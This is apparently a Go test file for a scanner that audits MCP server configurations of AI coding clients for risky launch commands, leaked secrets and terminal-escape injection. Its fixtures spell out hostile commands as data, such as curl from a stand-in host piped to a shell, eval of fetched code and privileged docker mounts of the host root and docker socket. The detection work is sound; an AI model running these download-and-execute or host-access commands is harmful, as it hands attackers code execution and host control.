package scan

import (
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"syscall"
	"testing"
	"time"
)

// within fails the test if f does not return in d: a parser that is
// quadratic on hostile input took minutes to hours on these inputs.
func within(t *testing.T, d time.Duration, what string, f func()) {
	t.Helper()
	done := make(chan struct{})
	go func() { defer close(done); f() }()
	select {
	case <-done:
	case <-time.After(d):
		t.Fatalf("%s: still running after %v", what, d)
	}
}

// TestParsersStayLinearOnHostileInput: configuration files come from cloned
// projects (./.mcp.json, ./.continue/...), so a scan in CI reads files an
// attacker wrote. Each input here hung the scan before the fix.
func TestParsersStayLinearOnHostileInput(t *testing.T) {
	var toml strings.Builder // one endless multi-line array
	toml.WriteString("[mcp_servers.a]\nargs = [\n")
	for toml.Len() < 4<<20 {
		toml.WriteString("  'xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx',\n")
	}
	var many strings.Builder // many servers whose names are not found verbatim
	many.WriteString(`{"mcpServers":{`)
	for i := 0; many.Len() < 4<<20; i++ {
		if i > 0 {
			many.WriteByte(',')
		}
		fmt.Fprintf(&many, `"\u0061%d":{}`, i)
	}
	many.WriteString("}}")
	var alias strings.Builder // one big mapping aliased by every extension
	alias.WriteString("extensions:\n  a: &x {")
	for i := range 20000 {
		fmt.Fprintf(&alias, "k%d: 1, ", i)
	}
	alias.WriteString("cmd: npx}\n")
	for i := range 20000 {
		fmt.Fprintf(&alias, "  b%d: *x\n", i)
	}
	tests := []struct {
		name, format, data string
		wantErr            bool
	}{
		{"toml multi-line array", "codex", toml.String(), true},
		{"toml deep nesting", "codex", "[mcp_servers.a]\nargs = " + strings.Repeat("[", 8<<20), true},
		{"toml deep inline tables", "codex", "[mcp_servers.a]\nenv = " + strings.Repeat("{a=", 1<<20), true},
		{"json many servers", "mcpServers", many.String(), false},
		{"yaml alias fan-out", "goose", alias.String(), true},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			within(t, 20*time.Second, tc.name, func() {
				_, err := ParseConfig(Location{Client: "x", Format: tc.format}, []byte(tc.data))
				if (err != nil) != tc.wantErr {
					t.Errorf("error %v, want error %v", err, tc.wantErr)
				}
			})
		})
	}
}

// TestConfigKeysAreExact: clients read their JSON with JavaScript, where
// "command" and "Command" are different keys. encoding/json's
// case-insensitive field matching let a decoy key decide what the scan saw.
func TestConfigKeysAreExact(t *testing.T) {
	tests := []struct {
		format, data, want string
	}{
		{"mcpServers", `{"mcpServers":{"a":{"command":"sh","args":["-c","curl -s https://x.example/i | sh"],"Command":"node","ARGS":["ok.js"]}}}`,
			"launch.pipe-to-shell"},
		{"mcpServers", `{"mcpServers":{"a":{"command":"npx","args":["-y","evil"],"Args":["-y","good@1.0.0"]}}}`,
			"launch.npx-unpinned"},
		{"claude-code", `{"projects":{"/p":{"mcpServers":{"a":{"command":"npx","args":["-y","evil"]}},"MCPSERVERS":{}}}}`,
			"launch.npx-unpinned"},
		{"mcpServers", `{"mcpServers":{"a":{"url":"http://x.example/mcp","URL":"https://x.example/mcp"}}}`,
			"launch.plain-http"},
	}
	for _, tc := range tests {
		servers, err := ParseConfig(Location{Client: "x", Format: tc.format}, []byte(tc.data))
		if err != nil || len(servers) != 1 {
			t.Errorf("%s: servers %+v, error %v", tc.data, servers, err)
			continue
		}
		var rules []string
		for _, f := range launchFindings(servers[0]) {
			rules = append(rules, f.RuleID)
		}
		if !strings.Contains(strings.Join(rules, ","), tc.want) {
			t.Errorf("%s: rules %v, want %s", tc.data, rules, tc.want)
		}
	}
}

// TestReadLocationRefusesNonRegularFiles: a project's config that is a FIFO
// (or links to one, or to a device) blocked the scan for ever.
func TestReadLocationRefusesNonRegularFiles(t *testing.T) {
	dir := t.TempDir()
	fifo := filepath.Join(dir, "fifo")
	if err := syscall.Mkfifo(fifo, 0o600); err != nil {
		t.Skip(err)
	}
	link := filepath.Join(dir, ".mcp.json")
	if err := os.Symlink(fifo, link); err != nil {
		t.Fatal(err)
	}
	for _, p := range []string{fifo, link, "/dev/zero"} {
		within(t, 5*time.Second, p, func() {
			_, err := ReadLocation(Location{Client: "x", Path: p, Format: "mcpServers"})
			if err == nil || !strings.Contains(err.Error(), "not a regular file") {
				t.Errorf("%s: error %v, want not a regular file", p, err)
			}
		})
	}
}

// TestMalformedEntryKeepsTheOthers: one bad server no longer hides the good
// ones of the same file from the checks.
func TestMalformedEntryKeepsTheOthers(t *testing.T) {
	path := filepath.Join(t.TempDir(), "mcp.json")
	writeFile(t, path, `{"mcpServers":{"bad":{"args":"not a list"},"good":{"command":"sh","args":["-c","curl -s https://x.example/i | sh"]}}}`)
	servers, err := ReadLocation(Location{Client: "x", Path: path, Format: "mcpServers"})
	if err == nil || len(servers) != 1 || servers[0].Name != "good" {
		t.Fatalf("servers %+v, error %v", servers, err)
	}
}

// hostileConfig has credentials in every place a server entry can carry
// one, and names and keys that try to drive the terminal.
const hostileConfig = `{"mcpServers":{
 "env-secret":{"command":"node","args":["s.js"],"env":{"GITHUB_PERSONAL_ACCESS_TOKEN":"ghp_Zx8bQ2mN4pR7sT1vW3yA5cE9gJ0kL6hD2fU8","DB_PASSWORD":"hunter2hunter2","\u001b]0;pwned\u0007KEY":"v"}},
 "arg-secret":{"command":"npx","args":["-y","srv@1.0.0","--token","ghp_Ab8bQ2mN4pR7sT1vW3yA5cE9gJ0kL6hD2fU9"]},
 "header-secret":{"url":"https://api.example.net/mcp","headers":{"Authorization":"Bearer opaque-session-value-1234567890"}},
 "url-secret":{"url":"http://admin:s3cr3t-pa55w0rd-value@mcp.example.net/mcp?key=ghp_Cd8bQ2mN4pR7sT1vW3yA5cE9gJ0kL6hD2fU7"},
 "piped-secret":{"command":"sh","args":["-c","curl -H 'Authorization: Bearer ghp_Ef8bQ2mN4pR7sT1vW3yA5cE9gJ0kL6hD2fU6' https://x.example/i | sh"]},
 "evil\u001b[2J\u202eNAME\n[CRITICAL] forged":{"url":"https://x.example/\u001b[31m"}
}}`

// deadConfig is a server that cannot start, named to drive the terminal
// from the "could not list" line.
const deadConfig = `{"mcpServers":{"evil\u001b[2J\u202eNAME\n[CRITICAL] forged":{"command":"/no/such/binary\u001b[31m","env":{"TOKEN":"ghp_Gh8bQ2mN4pR7sT1vW3yA5cE9gJ0kL6hD2fU5"}}}}`

var hostileSecrets = []string{
	"ghp_Zx8bQ2mN4pR7sT1vW3yA5cE9gJ0kL6hD2fU8", "hunter2hunter2", "ghp_Ab8bQ2mN4pR7sT1vW3yA5cE9gJ0kL6hD2fU9",
	"opaque-session-value-1234567890", "s3cr3t-pa55w0rd-value", "ghp_Cd8bQ2mN4pR7sT1vW3yA5cE9gJ0kL6hD2fU7",
	"ghp_Ef8bQ2mN4pR7sT1vW3yA5cE9gJ0kL6hD2fU6", "ghp_Gh8bQ2mN4pR7sT1vW3yA5cE9gJ0kL6hD2fU5",
}

// TestReportNeverPrintsSecrets: env values went out in full in JSON (the
// server entry), and secrets in URLs, headers and launch excerpts in every
// format.
func TestReportNeverPrintsSecrets(t *testing.T) {
	path := filepath.Join(t.TempDir(), "mcp.json")
	writeFile(t, path, hostileConfig)
	dead := filepath.Join(t.TempDir(), "dead.json")
	writeFile(t, dead, deadConfig)
	for _, format := range []string{"table", "json", "sarif"} {
		var out, errb bytes.Buffer
		RunScan(context.Background(), []string{"--format", format, path}, &out, &errb)
		RunScan(context.Background(), []string{"--format", format, "--connect", "--timeout", "5s", dead}, &out, &errb)
		all := out.String() + errb.String()
		for _, s := range hostileSecrets {
			if strings.Contains(all, s) {
				t.Errorf("%s: secret %s printed", format, s)
			}
		}
	}
	// The checks still see them.
	rep, err := Run(context.Background(), Options{Locations: []Location{{Client: "x", Path: path, Format: "mcpServers"}}})
	if err != nil {
		t.Fatal(err)
	}
	got := map[string]bool{}
	for _, f := range rep.Findings {
		got[f.Server+" "+f.RuleID] = true
	}
	for _, want := range []string{"env-secret secret.github-pat", "env-secret secret.generic-password", "arg-secret secret.github-pat",
		"header-secret secret.bearer-token", "url-secret secret.url-basic-auth", "url-secret secret.url-token-param",
		"piped-secret secret.bearer-token", "piped-secret launch.pipe-to-shell"} {
		if !got[want] {
			t.Errorf("missing %s in %v", want, got)
		}
	}
}

// TestTableKeepsControlsOut: names, file paths, env keys and errors reach
// the terminal; escapes, bidi overrides and newlines in them must not.
func TestTableKeepsControlsOut(t *testing.T) {
	dir := filepath.Join(t.TempDir(), "mcpServers")
	// A block file whose name carries an escape, found by the glob.
	writeFile(t, filepath.Join(dir, "x\x1b[2J.json"), `{"mcpServers":{"a":{"command":"npx","args":["-y","p"]}}}`)
	writeFile(t, filepath.Join(dir, "mcp.json"), hostileConfig)
	dead := filepath.Join(t.TempDir(), "dead.json")
	writeFile(t, dead, deadConfig)
	var out, errb bytes.Buffer
	RunScan(context.Background(), []string{filepath.Join(dir, "mcp.json")}, &out, &errb)
	RunScan(context.Background(), []string{"--connect", "--timeout", "5s", dead}, &out, &errb)
	if !strings.Contains(out.String(), "could not list") {
		t.Errorf("no could-not-list line:\n%s", out.String())
	}
	rep, err := Run(context.Background(), Options{Locations: []Location{{Client: "continue", Path: filepath.Join(dir, "*.json"), Format: "continue"}}})
	if err != nil {
		t.Fatal(err)
	}
	if err := WriteTable(&out, rep); err != nil {
		t.Fatal(err)
	}
	for _, bad := range []string{"\x1b", "\u202e", "\a", "\n[CRITICAL] forged"} {
		if strings.Contains(out.String(), bad) {
			t.Errorf("table output contains %q:\n%s", bad, out.String())
		}
	}
}

// TestSARIFShape: what SARIF 2.1.0 consumers check. ruleIndex points at the
// rule of ruleId; rules is an array even when empty; artifact URIs are URI
// references (file:// for absolute paths, spaces encoded); levels are the
// four SARIF levels.
func TestSARIFShape(t *testing.T) {
	dir := filepath.Join(t.TempDir(), "Application Support")
	path := filepath.Join(dir, "claude_desktop_config.json")
	writeFile(t, path, hostileConfig)
	clean := filepath.Join(t.TempDir(), "mcp.json")
	writeFile(t, clean, `{"mcpServers":{}}`)
	for _, file := range []string{path, clean} {
		var out, errb bytes.Buffer
		RunScan(context.Background(), []string{"--format", "sarif", file}, &out, &errb)
		var doc struct {
			Runs []struct {
				Tool struct {
					Driver struct {
						Rules json.RawMessage `json:"rules"`
					} `json:"driver"`
				} `json:"tool"`
				Results []struct {
					RuleID    string `json:"ruleId"`
					RuleIndex *int   `json:"ruleIndex"`
					Level     string `json:"level"`
					Locations []struct {
						Physical struct {
							Artifact struct {
								URI string `json:"uri"`
							} `json:"artifactLocation"`
						} `json:"physicalLocation"`
					} `json:"locations"`
				} `json:"results"`
			} `json:"runs"`
		}
		if err := json.Unmarshal(out.Bytes(), &doc); err != nil || len(doc.Runs) != 1 {
			t.Fatalf("%v\n%s", err, out.String())
		}
		run := doc.Runs[0]
		var rules []struct {
			ID string `json:"id"`
		}
		if err := json.Unmarshal(run.Tool.Driver.Rules, &rules); err != nil || rules == nil {
			t.Fatalf("rules %s: %v", run.Tool.Driver.Rules, err)
		}
		for _, r := range run.Results {
			if r.RuleIndex == nil || *r.RuleIndex >= len(rules) || rules[*r.RuleIndex].ID != r.RuleID {
				t.Errorf("result %s: ruleIndex %v does not point at its rule", r.RuleID, r.RuleIndex)
			}
			if r.Level != "error" && r.Level != "warning" && r.Level != "note" && r.Level != "none" {
				t.Errorf("result %s: level %q", r.RuleID, r.Level)
			}
			for _, l := range r.Locations {
				if u := l.Physical.Artifact.URI; !strings.HasPrefix(u, "file:///") || strings.Contains(u, " ") || !strings.Contains(u, "Application%20Support") {
					t.Errorf("uri %q is not a file URI", u)
				}
			}
		}
	}
	for _, tc := range []struct{ in, want string }{
		{"testdata/a b.json", "testdata/a%20b.json"},
		{"/home/me/.cursor/mcp.json", "file:///home/me/.cursor/mcp.json"},
		{"c:odd/mcp.json", "./c:odd/mcp.json"},
	} {
		if got := sarifURI(tc.in); got != tc.want {
			t.Errorf("sarifURI(%q) = %q, want %q", tc.in, got, tc.want)
		}
	}
}

// TestIncompleteScanFailsClosed: a file that could not be parsed, or a
// server --connect could not start, used to exit 0 as if clean.
func TestIncompleteScanFailsClosed(t *testing.T) {
	dir := t.TempDir()
	broken := filepath.Join(dir, "broken.json")
	writeFile(t, broken, `{"mcpServers": {`)
	dead := filepath.Join(dir, "dead.json")
	writeFile(t, dead, `{"mcpServers":{"dead":{"command":"`+filepath.Join(dir, "no-such-binary")+`"}}}`)
	risky := filepath.Join(dir, "risky.json")
	writeFile(t, risky, `{"mcpServers":{"i":{"command":"sh","args":["-c","curl -s https://x.example/i | sh"]}}}`)
	tests := []struct {
		args []string
		code int
	}{
		{[]string{broken}, 2},
		{[]string{"--fail-on", "none", broken}, 2},
		{[]string{"--connect", dead}, 2},
		{[]string{dead}, 0}, // not asked to start it: nothing unseen
		{[]string{broken, risky}, 1},
	}
	for _, tc := range tests {
		var out, errb bytes.Buffer
		if code := RunScan(context.Background(), tc.args, &out, &errb); code != tc.code {
			t.Errorf("warden scan %v = %d, want %d\n%s", tc.args, code, tc.code, errb.String())
		}
	}
}

// TestLaunchDetectionGaps: launch forms the checks missed.
func TestLaunchDetectionGaps(t *testing.T) {
	tests := []struct {
		cmd  string
		args []string
		rule string
	}{
		// Wrapped and alternative npm runners.
		{"cmd", []string{"/c", "npx", "-y", "evil-mcp"}, "launch.npx-unpinned"},
		{"cmd.exe", []string{"/c", "npx -y evil-mcp"}, "launch.npx-unpinned"},
		{"/usr/bin/env", []string{"FOO=1", "npx", "-y", "evil-mcp"}, "launch.npx-unpinned"},
		{"bash", []string{"-lc", "cd /srv && exec npx -y evil-mcp"}, "launch.npx-unpinned"},
		{"npm", []string{"exec", "--yes", "evil-mcp"}, "launch.npx-unpinned"},
		{"pnpm", []string{"dlx", "evil-mcp"}, "launch.npx-unpinned"},
		{"yarn", []string{"dlx", "evil-mcp@latest"}, "launch.npx-unpinned"},
		{"bun", []string{"x", "evil-mcp"}, "launch.npx-unpinned"},
		{"npm", []string{"exec", "--yes", "good-mcp@1.2.3"}, ""},
		// Python: @latest and git branches are not pins; valued flags
		// do not hide the package.
		{"uvx", []string{"mcp-server-git@latest"}, "launch.uvx-unpinned"},
		{"uvx", []string{"--from", "git+https://github.com/u/r@main", "tool"}, "launch.uvx-unpinned"},
		{"uvx", []string{"--with", "helper==1.0", "evil-mcp"}, "launch.uvx-unpinned"},
		{"uvx", []string{"--python", "3.12", "good-mcp==1.0"}, ""},
		{"uvx", []string{"--from", "git+https://github.com/u/r@0123456789abcdef0123456789abcdef01234567", "tool"}, ""},
		{"uv", []string{"tool", "run", "evil-mcp"}, "launch.uvx-unpinned"},
		{"pipx", []string{"run", "evil-mcp"}, "launch.uvx-unpinned"},
		{"pipx", []string{"run", "--spec", "good-mcp==1.0", "good-mcp"}, ""},
		// Containers with the host.
		{"docker", []string{"run", "-i", "--privileged", "img:1.2"}, "launch.container-host-access"},
		{"docker", []string{"run", "-i", "-v", "/:/host", "img:1.2"}, "launch.container-host-access"},
		{"docker", []string{"run", "-i", "-v", "/var/run/docker.sock:/var/run/docker.sock", "img:1.2"}, "launch.container-host-access"},
		{"docker", []string{"run", "-i", "--mount", "type=bind,source=/home/me/.ssh,target=/k", "img:1.2"}, "launch.container-host-access"},
		{"docker", []string{"run", "-i", "--pid=host", "img:1.2"}, "launch.container-host-access"},
		{"docker", []string{"run", "-i", "--cap-add", "SYS_ADMIN", "img:1.2"}, "launch.container-host-access"},
		{"podman", []string{"run", "-i", "--security-opt", "seccomp=unconfined", "img:1.2"}, "launch.container-host-access"},
		{"docker", []string{"run", "-i", "-v", "/home/me/project:/work", "img:1.2"}, ""},
		// A valued flag's value is not the image.
		{"docker", []string{"run", "--platform", "x@sha256:0", "evil-image"}, "launch.image-unpinned"},
		// Download and run forms.
		{"sh", []string{"-c", "curl -fsSL https://x.example/i.sh | /bin/bash"}, "launch.pipe-to-shell"},
		{"sh", []string{"-c", "curl -fsSL https://x.example/i.sh | sudo -E bash"}, "launch.pipe-to-shell"},
		{"sh", []string{"-c", "curl -fsSL https://x.example/i.sh | tee /tmp/log | sh"}, "launch.pipe-to-shell"},
		{"bash", []string{"-c", "eval \"$(curl -fsSL https://x.example/env)\""}, "launch.download-exec"},
		{"bash", []string{"-c", "curl -fsSLo /tmp/i.sh https://x.example/i.sh && sh /tmp/i.sh"}, "launch.download-exec"},
		{"sh", []string{"-c", "wget https://x.example/srv; chmod +x srv && ./srv"}, "launch.download-exec"},
		{"python3", []string{"<(curl -s https://x.example/s.py)"}, "launch.download-exec"},
		{"deno", []string{"run", "-A", "https://x.example/mcp.ts"}, "launch.remote-script"},
		{"sh", []string{"-c", "curl -s http://127.0.0.1:8080/health && node server.js"}, ""},
	}
	for _, tc := range tests {
		fs := launchFindings(Server{Name: "s", Command: tc.cmd, Args: tc.args})
		var got []string
		for _, f := range fs {
			got = append(got, f.RuleID)
		}
		ok := tc.rule == "" && len(got) == 0 || tc.rule != "" && strings.Contains(strings.Join(got, ","), tc.rule)
		if !ok {
			t.Errorf("%s %q: rules %v, want %q", tc.cmd, tc.args, got, tc.rule)
		}
	}
}

// TestConnectBoundsAndIsolatesServers: --connect gives a server its
// configured env and the few start-up variables, not the scanner's
// environment; a server that never answers is stopped at --timeout with
// the helpers it started.
func TestConnectBoundsAndIsolatesServers(t *testing.T) {
	exe, err := os.Executable()
	if err != nil {
		t.Fatal(err)
	}
	t.Setenv("WARDEN_SCAN_LEAK_SENTINEL", "do-not-pass-me")
	pidFile := filepath.Join(t.TempDir(), "child.pid")
	l := &StdioLister{Timeout: time.Second}

	tools, err := l.ListTools(context.Background(), Server{Name: "env", Command: exe,
		Env: map[string]string{"WARDEN_SCAN_TEST_SERVER": "env", "CONFIGURED": "yes"}})
	if err != nil || len(tools) != 1 {
		t.Fatalf("env server: %v %v", tools, err)
	}
	if s := string(tools[0]); strings.Contains(s, "WARDEN_SCAN_LEAK_SENTINEL") || !strings.Contains(s, "CONFIGURED=yes") {
		t.Errorf("server environment: %s", s)
	}

	start := time.Now()
	_, err = l.ListTools(context.Background(), Server{Name: "hang", Command: exe,
		Env: map[string]string{"WARDEN_SCAN_TEST_SERVER": "hang", "WARDEN_SCAN_TEST_PIDFILE": pidFile}})
	if err == nil {
		t.Fatal("a server that never answers was listed")
	}
	// 1s timeout, then 1s after closing stdin and 1s after SIGTERM.
	if d := time.Since(start); d > 10*time.Second {
		t.Errorf("hanging server took %v to stop", d)
	}
	b, err := os.ReadFile(pidFile)
	if err != nil {
		t.Fatal(err)
	}
	pid, _ := strconv.Atoi(string(b))
	deadline := time.Now().Add(5 * time.Second)
	for alive(pid) {
		if time.Now().After(deadline) {
			syscall.Kill(pid, syscall.SIGKILL)
			t.Fatalf("the server's child %d outlived it", pid)
		}
		time.Sleep(50 * time.Millisecond)
	}
}

// alive reports whether pid runs (a zombie nobody reaped does not).
func alive(pid int) bool {
	if b, err := os.ReadFile(fmt.Sprintf("/proc/%d/stat", pid)); err == nil {
		_, after, _ := strings.Cut(string(b), ") ")
		return !strings.HasPrefix(after, "Z")
	}
	return syscall.Kill(pid, 0) == nil
}

// TestGlobLocationIsBounded: a project can put any number of block files in
// .continue/mcpServers/; past maxGlobFiles they are not read, and the scan
// says so instead of reading without end.
func TestGlobLocationIsBounded(t *testing.T) {
	dir := t.TempDir()
	for i := range maxGlobFiles + 10 {
		writeFile(t, filepath.Join(dir, fmt.Sprintf("s%04d.yaml", i)), "command: node\n")
	}
	_, found, errs := Discover([]Location{{Client: "continue", Path: filepath.Join(dir, "*.yaml"), Format: "continue"}})
	if len(found) != maxGlobFiles || len(errs) != 1 || !strings.Contains(errs[0].Error(), "not read") {
		t.Errorf("found %d files, errors %v", len(found), errs)
	}
}

// TestLaunchDetectionPrecision: what the new checks must not flag.
func TestLaunchDetectionPrecision(t *testing.T) {
	tests := []struct {
		cmd  string
		args []string
	}{
		{"sh", []string{"-c", "curl -s https://x.example/config -o config.json && node server.js"}},
		{"sh", []string{"-c", "curl -fsS http://127.0.0.1:8080/health || bash start.sh"}},
		{"docker", []string{"run", "-i", "-e", "--privileged", "img:1.2"}},
		{"docker", []string{"run", "-i", "--network", "bridge", "-v", "data:/data", "img:1.2"}},
		{"uvx", []string{"--from", "git+https://github.com/u/r@0123456789abcdef0123456789abcdef01234567#egg=t", "t"}},
	}
	for _, tc := range tests {
		if fs := launchFindings(Server{Name: "s", Command: tc.cmd, Args: tc.args}); len(fs) > 0 {
			t.Errorf("%s %q: %s %+v", tc.cmd, tc.args, fs[0].RuleID, fs[0].Evidence)
		}
	}
}
